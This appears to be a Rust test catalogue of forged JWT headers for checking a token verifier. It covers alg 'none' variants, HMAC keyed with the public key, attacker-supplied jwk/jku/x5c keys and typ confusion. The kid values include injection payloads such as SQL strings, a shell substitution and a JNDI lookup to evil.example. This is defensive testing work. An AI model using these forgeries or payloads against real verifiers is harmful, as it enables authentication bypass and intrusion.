//! The protected header: algorithms, key names, keys brought along, types, extensions.

use anyhow::Result;
use base64::Engine as _;
use base64::prelude::BASE64_STANDARD;
use countersign_tests::mint::{self, SigningKey};
use jsonwebtoken::{Algorithm, EncodingKey};
use serde_json::{Value, json};

use crate::catalogue::Catalogue;
use crate::forge::{Bench, b64, header, member, parts, signed_by, token};

pub(crate) fn add(catalogue: &mut Catalogue) -> Result<()> {
    let mut bench = Bench::new()?;
    algorithms(catalogue, &mut bench)?;
    secrets(catalogue, &mut bench)?;
    pinned(catalogue)?;
    names(catalogue, &mut bench)?;
    keys(catalogue, &mut bench)?;
    types(catalogue, &mut bench)?;
    extensions(catalogue, &mut bench)
}

fn algorithms(catalogue: &mut Catalogue, bench: &mut Bench) -> Result<()> {
    let good = bench.world.token()?;
    let [_, p, s] = parts(&good)?;
    for (id, name) in [
        ("none", "none"),
        ("none-in-capitals", "NONE"),
        ("none-capitalized", "None"),
        ("none-mixed-case", "nOnE"),
        ("none-and-a-space", "none "),
        ("none-and-a-nul", "none\0"),
        ("none-in-full-width", "\u{ff4e}\u{ff4f}\u{ff4e}\u{ff45}"),
        ("empty", ""),
        ("null-as-text", "null"),
        ("false-as-text", "false"),
        ("small-letters", "es256"),
        ("and-a-nul", "ES256\0"),
        ("and-a-space", "ES256 "),
        ("of-another-curve", "ES256K"),
        ("dir", "dir"),
        ("rsa1-5", "RSA1_5"),
        ("a128kw", "A128KW"),
        ("pbes2", "PBES2-HS256+A128KW"),
        ("rs1", "RS1"),
        ("hs1", "HS1"),
        ("oid", "1.2.840.10045.4.3.2"),
        ("uri", "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256"),
        ("of-another-key", "EdDSA"),
        ("of-another-key-by-its-full-name", "Ed25519"),
        ("of-rsa", "RS256"),
        ("not-of-the-issuer", "ES384"),
        ("pss", "PS256"),
    ] {
        let text = header(json!({ "alg": name })).to_string();
        let unsigned = format!("{}.{p}.", b64(&text));
        catalogue.attack(format!("header/alg-{id}-signed"), "token.algorithm", bench.header(&text)?);
        if name.to_ascii_lowercase().starts_with("none") {
            let id = format!("header/alg-{id}-unsigned");
            catalogue.attack(id, "token.algorithm", bench.bearer(&unsigned));
        }
    }
    // The signature of a good token, under a header that says there is none.
    let text = b64(header(json!({ "alg": "none" })).to_string());
    catalogue.attack(
        "header/alg-none-old-signature",
        "token.algorithm",
        bench.bearer(&format!("{text}.{p}.{s}")),
    );
    let only = b64(r#"{"alg":"none"}"#);
    catalogue.attack("header/alg-none-alone", "token.algorithm", bench.bearer(&format!("{only}.{p}.")));
    let text = header(json!({}));
    for (id, raw) in [
        ("null", "null"),
        ("number", "256"),
        ("array", r#"["ES256"]"#),
        ("array-with-none", r#"["ES256","none"]"#),
        ("object", r#"{"name":"ES256"}"#),
        ("boolean", "true"),
    ] {
        let text = member(&text, "alg", raw);
        catalogue.attack(format!("header/alg-is-{id}"), "token.malformed", bench.header(text)?);
    }
    catalogue.attack(
        "header/alg-missing",
        "token.malformed",
        bench.header(r#"{"kid":"k1","typ":"at+jwt"}"#)?,
    );
    catalogue.attack(
        "header/alg-in-capitals-as-a-name",
        "token.malformed",
        bench.header(r#"{"ALG":"ES256","kid":"k1","typ":"at+jwt"}"#)?,
    );
    for (id, text) in [
        ("twice", r#"{"alg":"ES256","alg":"none","kid":"k1","typ":"at+jwt"}"#),
        ("twice-none-first", r#"{"alg":"none","alg":"ES256","kid":"k1","typ":"at+jwt"}"#),
        ("twice-by-escape", r#"{"alg":"ES256","\u0061lg":"none","kid":"k1","typ":"at+jwt"}"#),
    ] {
        catalogue.attack(format!("header/alg-{id}"), "token.malformed", bench.header(text)?);
    }
    let escaped = r#"{"\u0061lg":"none","kid":"k1","typ":"at+jwt"}"#;
    catalogue.attack("header/alg-none-by-escape", "token.algorithm", bench.header(escaped)?);
    let escaped = r#"{"\u0061lg":"\u0045S256","kid":"k1","typ":"at+jwt"}"#;
    catalogue.control("header/alg-by-escape", bench.header(escaped)?);
    Ok(())
}

/// The public key as the secret of an HMAC, in every form in which somebody may have it at hand.
fn secrets(catalogue: &mut Catalogue, bench: &mut Bench) -> Result<()> {
    let jwk = bench.world.key.jwk();
    let pair = rcgen::KeyPair::from_pem(&bench.world.key.pem)?;
    let spki = rcgen::PublicKeyData::subject_public_key_info(&pair);
    let pem =
        format!("-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----\n", BASE64_STANDARD.encode(&spki));
    let point = rcgen::PublicKeyData::der_bytes(&pair).to_vec();
    let x = jwk["x"].as_str().unwrap_or_default().as_bytes().to_vec();
    for (id, algorithm, secret) in [
        ("pem", Algorithm::HS256, pem.clone().into_bytes()),
        ("pem-without-its-last-line-end", Algorithm::HS256, pem.trim_end().into()),
        ("der", Algorithm::HS256, spki),
        ("point", Algorithm::HS256, point),
        ("jwk", Algorithm::HS256, jwk.to_string().into_bytes()),
        ("jwk-set", Algorithm::HS256, mint::jwks([&bench.world.key]).to_string().into_bytes()),
        ("x", Algorithm::HS256, x),
        ("kid", Algorithm::HS256, b"k1".to_vec()),
        ("nothing", Algorithm::HS256, Vec::new()),
        ("pem-sha-384", Algorithm::HS384, pem.clone().into_bytes()),
        ("pem-sha-512", Algorithm::HS512, pem.into_bytes()),
    ] {
        let head = header(json!({ "alg": algorithm }));
        let key = EncodingKey::from_secret(&secret);
        let token = signed_by(&head, &bench.world.claims(), |message| {
            crate::forge::unb64(&jsonwebtoken::crypto::sign(message, &key, algorithm)?)
        })?;
        catalogue.attack(format!("header/hmac-with-{id}"), "token.algorithm", bench.bearer(&token));
    }
    Ok(())
}

/// The algorithm is the key's or the configuration's, never the token's alone.
fn pinned(catalogue: &mut Catalogue) -> Result<()> {
    let p384 = SigningKey::of("k3", Algorithm::ES384)?;
    let mut bench = Bench::configured(|config| {
        config["issuers"][0]["algorithms"] = json!(["ES256", "ES384", "PS256"]);
        if let Some(keys) = config["issuers"][0]["keys"]["inline"]["keys"].as_array_mut() {
            keys.push(p384.jwk());
        }
    })?;
    catalogue.control("header/alg-es384-by-its-key", bench.bearer(&p384.sign(&bench.world.claims())?));
    catalogue.control("header/alg-es256-by-its-key", bench.bearer(&bench.world.token()?));
    for (id, changes) in [
        ("header/alg-es384-with-a-key-for-es256", json!({ "alg": "ES384" })),
        ("header/alg-es256-with-a-key-for-es384", json!({ "kid": "k3" })),
        ("header/alg-ps256-with-a-key-for-es256", json!({ "alg": "PS256" })),
    ] {
        let text = header(changes).to_string();
        catalogue.attack(id, "token.algorithm", bench.header(text)?);
    }
    let mut narrow = Bench::configured(|config| config["issuers"][0]["algorithms"] = json!(["EdDSA"]))?;
    let token = narrow.world.token()?;
    catalogue.attack(
        "header/alg-that-the-configuration-leaves-out",
        "token.algorithm",
        narrow.bearer(&token),
    );
    for (id, name) in
        [("none", "none"), ("hmac", "HS256"), ("small-letters", "es256"), ("es256k", "ES256K"), ("empty", "")]
    {
        let loaded = Bench::configured(|config| config["issuers"][0]["algorithms"] = json!(["ES256", name]));
        let found = if loaded.is_err() { crate::catalogue::NOT_LOADED } else { "loaded" };
        let id = format!("header/alg-{id}-in-the-configuration");
        catalogue.attack(id, crate::catalogue::NOT_LOADED, found);
    }
    Ok(())
}

fn names(catalogue: &mut Catalogue, bench: &mut Bench) -> Result<()> {
    let without = header(json!({ "kid": null })).to_string();
    catalogue.control("header/kid-missing-with-one-key", bench.header(without)?);
    let long = "k".repeat(4_000);
    for (id, kid) in [
        ("path-traversal", "../../../../../../dev/null"),
        ("file", "/proc/self/environ"),
        ("sql", "k1' OR '1'='1"),
        ("sql-union", "x' UNION SELECT 'k1'--"),
        ("shell", "$(touch /tmp/x)"),
        ("template", "${jndi:ldap://evil.example/a}"),
        ("nul", "k1\0"),
        ("nul-before", "\0k1"),
        ("url", "https://evil.example/jwks.json"),
        ("long", &long),
        ("empty", ""),
        ("capitals", "K1"),
        ("space-behind", "k1 "),
        ("line-end-behind", "k1\n"),
        ("escaped", "k%31"),
        ("wildcard", "*"),
        ("prefix", "k"),
        ("longer", "k11"),
        ("full-width", "k\u{ff11}"),
        ("zero-width", "k\u{200b}1"),
        ("prototype", "__proto__"),
        ("index", "0"),
        ("list", "k1,k2"),
    ] {
        let text = header(json!({ "kid": kid })).to_string();
        catalogue.attack(format!("header/kid-{id}"), "token.key.unknown", bench.header(text)?);
    }
    let text = header(json!({}));
    for (id, raw) in [
        ("null", "null"),
        ("number", "1"),
        ("array", r#"["k1"]"#),
        ("object", r#"{"$ne":null}"#),
        ("boolean", "true"),
    ] {
        let text = member(&text, "kid", raw);
        catalogue.attack(format!("header/kid-is-{id}"), "token.malformed", bench.header(text)?);
    }
    Ok(())
}

/// A key that the token brings along is the attacker's.
fn keys(catalogue: &mut Catalogue, bench: &mut Bench) -> Result<()> {
    let own = SigningKey::new("k1")?;
    let claims = bench.world.claims().to_string();
    let certificate = BASE64_STANDARD.encode(
        rcgen::CertificateParams::new(vec!["issuer.bank.example".into()])?
            .self_signed(&rcgen::KeyPair::from_pem(&own.pem)?)?
            .der(),
    );
    for (id, changes) in [
        ("jwk", json!({ "jwk": own.jwk() })),
        ("jku", json!({ "jku": "https://evil.example/jwks" })),
        ("jku-at-the-issuer", json!({ "jku": "https://issuer.bank.example@evil.example/jwks" })),
        ("x5u", json!({ "x5u": "https://evil.example/cert.pem" })),
        ("x5c", json!({ "x5c": [certificate] })),
        ("x5t", json!({ "x5t#S256": crate::forge::b64([7; 32]) })),
        ("jwks", json!({ "jwks": { "keys": [own.jwk()] } })),
        ("epk", json!({ "epk": own.jwk() })),
    ] {
        let head = header(changes.clone());
        let forged = token(&own, head.to_string(), &claims)?;
        catalogue.attack(format!("header/{id}-of-the-attacker"), "token.signature", bench.bearer(&forged));
        let nameless = mint::with(&head, json!({ "kid": null }));
        let forged = token(&own, nameless.to_string(), &claims)?;
        let id = format!("header/{id}-of-the-attacker-without-kid");
        catalogue.attack(id, "token.signature", bench.bearer(&forged));
    }
    let named = header(json!({ "kid": "evil", "jwk": own.jwk(), "jku": "https://evil.example/jwks" }));
    let forged = token(&own, named.to_string(), &claims)?;
    catalogue.attack("header/jwk-under-a-name-of-its-own", "token.key.unknown", bench.bearer(&forged));
    let also = header(json!({ "jwk": own.jwk(), "jku": "https://evil.example/jwks", "x5c": ["AAAA"] }));
    catalogue.control("header/keys-brought-along-are-not-looked-at", bench.header(also.to_string())?);
    catalogue.control("header/members-nobody-knows", bench.header(header(json!({ "x": [1] })).to_string())?);
    Ok(())
}

fn types(catalogue: &mut Catalogue, bench: &mut Bench) -> Result<()> {
    for (id, typ) in [
        ("at-jwt", "at+jwt"),
        ("in-capitals", "AT+JWT"),
        ("with-its-prefix", "application/at+jwt"),
        ("with-its-prefix-in-capitals", "APPLICATION/AT+JWT"),
        ("jwt", "JWT"),
        ("jwt-in-small-letters", "jwt"),
    ] {
        let text = header(json!({ "typ": typ })).to_string();
        catalogue.control(format!("header/typ-{id}"), bench.header(text)?);
    }
    for (id, typ) in [
        ("dpop", "dpop+jwt"),
        ("logout-token", "logout+jwt"),
        ("security-event", "secevent+jwt"),
        ("id-token", "id_token"),
        ("introspection", "token-introspection+jwt"),
        ("authorization-request", "oauth-authz-req+jwt"),
        ("entity-statement", "entity-statement+jwt"),
        ("client-authentication", "client-authentication+jwt"),
        ("key-binding", "kb+jwt"),
        ("credential", "vc+sd-jwt"),
        ("refresh", "rt+jwt"),
        ("jose", "JOSE"),
        ("jose-json", "JOSE+JSON"),
        ("empty", ""),
        ("space-before", " at+jwt"),
        ("space-behind", "at+jwt "),
        ("parameter", "at+jwt;charset=utf-8"),
        ("prefix-twice", "application/application/at+jwt"),
        ("prefix-alone", "application/"),
        ("another-prefix", "text/at+jwt"),
        ("nul", "at+jwt\0"),
        ("suffix", "xat+jwt"),
        ("list", "at+jwt,dpop+jwt"),
        ("confusable", "\u{0430}t+jwt"),
        ("dotless-i", "appl\u{0131}cation/at+jwt"),
    ] {
        let text = header(json!({ "typ": typ })).to_string();
        catalogue.attack(format!("header/typ-{id}"), "token.type", bench.header(text)?);
    }
    let missing = header(json!({ "typ": null })).to_string();
    catalogue.attack("header/typ-missing", "token.type", bench.header(missing)?);
    for (id, raw) in [("null", "null"), ("array", r#"["at+jwt"]"#), ("number", "1")] {
        let text = member(&header(json!({})), "typ", raw);
        catalogue.attack(format!("header/typ-is-{id}"), "token.malformed", bench.header(text)?);
    }
    // Another JWT of the same issuer and key, with its own type: an ID token.
    let claims = mint::with(&bench.world.claims(), json!({ "aud": "app", "nonce": "n", "azp": "app" }));
    let text = header(json!({ "typ": "JWT" })).to_string();
    catalogue.attack("header/id-token", "token.audience", bench.raw(text, claims.to_string())?);
    let mut strict = Bench::configured(|config| config["issuers"][0]["token_types"] = json!(["at+jwt"]))?;
    let text = header(json!({ "typ": "JWT" })).to_string();
    catalogue.attack("header/id-token-where-types-are-told", "token.type", strict.header(text)?);
    let mut prefixed =
        Bench::configured(|config| config["issuers"][0]["token_types"] = json!(["application/at+jwt"]))?;
    catalogue.control("header/typ-told-with-its-prefix", prefixed.header(header(json!({})).to_string())?);
    let text = header(json!({ "typ": "JWT" })).to_string();
    catalogue.attack("header/id-token-where-a-prefix-is-told", "token.type", prefixed.header(text)?);
    let mut profile = Bench::configured(|config| config["issuers"][0]["profile"] = json!("access_token"))?;
    let claims = mint::with(&profile.world.claims(), json!({ "client_id": "app" })).to_string();
    let good = header(json!({})).to_string();
    catalogue.control("header/access-token-of-its-profile", profile.raw(&good, &claims)?);
    let text = header(json!({ "typ": "JWT" })).to_string();
    catalogue.attack(
        "header/id-token-under-the-access-token-profile",
        "token.type",
        profile.raw(text, claims)?,
    );
    Ok(())
}

fn extensions(catalogue: &mut Catalogue, bench: &mut Bench) -> Result<()> {
    for (id, changes, expected) in [
        ("unknown", json!({ "crit": ["x"], "x": 1 }), "token.critical"),
        ("exp", json!({ "crit": ["exp"], "exp": 1 }), "token.critical"),
        ("url", json!({ "crit": ["urn:x:y"], "urn:x:y": false }), "token.critical"),
        ("two", json!({ "crit": ["x", "y"], "x": 1, "y": 2 }), "token.critical"),
        ("absent-member", json!({ "crit": ["x"] }), "token.malformed"),
        ("empty", json!({ "crit": [] }), "token.malformed"),
        ("text", json!({ "crit": "x", "x": 1 }), "token.malformed"),
        ("object", json!({ "crit": { "x": 1 }, "x": 1 }), "token.malformed"),
        ("number-within", json!({ "crit": [1], "1": 1 }), "token.malformed"),
        ("twice-the-same", json!({ "crit": ["x", "x"], "x": 1 }), "token.malformed"),
        ("registered-name", json!({ "crit": ["alg"] }), "token.malformed"),
        ("itself", json!({ "crit": ["crit"] }), "token.malformed"),
        ("empty-name", json!({ "crit": [""], "": 1 }), "token.critical"),
        ("a-thousand", json!({ "crit": vec!["x"; 1_000], "x": 1 }), "token.malformed"),
    ] {
        let text = header(changes).to_string();
        catalogue.attack(format!("header/crit-{id}"), expected, bench.header(text)?);
    }
    let null = member(&header(json!({})), "crit", "null");
    catalogue.attack("header/crit-null", "token.malformed", bench.header(null)?);
    // Deflated `{}` and more: what is compressed is never inflated.
    let zipped = [0x78, 0x9c, 0xab, 0xae, 0x05, 0x00, 0x01, 0x75, 0x00, 0xf9];
    let text = header(json!({ "zip": "DEF" })).to_string();
    catalogue.attack("header/zip-deflated-payload", "token.malformed", bench.raw(&text, zipped)?);
    let text = header(json!({ "zip": "DEF", "crit": ["zip"] })).to_string();
    catalogue.attack("header/zip-critical", "token.critical", bench.header(text)?);
    let claims = bench.world.claims();
    for (id, name, expected) in [
        ("iss", "iss", "token.issuer.missing"),
        ("sub", "sub", "token.subject.missing"),
        ("aud", "aud", "token.audience"),
        ("exp", "exp", "token.expiry.missing"),
    ] {
        // RFC 7519 §5.3 lets claims stand in the header; they are not believed there.
        let head = header(json!({ name: claims[name].clone() })).to_string();
        let payload = mint::with(&claims, json!({ name: Value::Null })).to_string();
        catalogue.attack(
            format!("header/claim-{id}-in-the-header-alone"),
            expected,
            bench.raw(head, payload)?,
        );
    }
    for (id, raw) in
        [("array", "[]"), ("text", "\"ES256\""), ("null", "null"), ("nothing", " "), ("number", "7")]
    {
        catalogue.attack(format!("header/is-{id}"), "token.malformed", bench.header(raw)?);
    }
    catalogue.attack("header/is-an-empty-object", "token.malformed", bench.header("{}")?);
    Ok(())
}
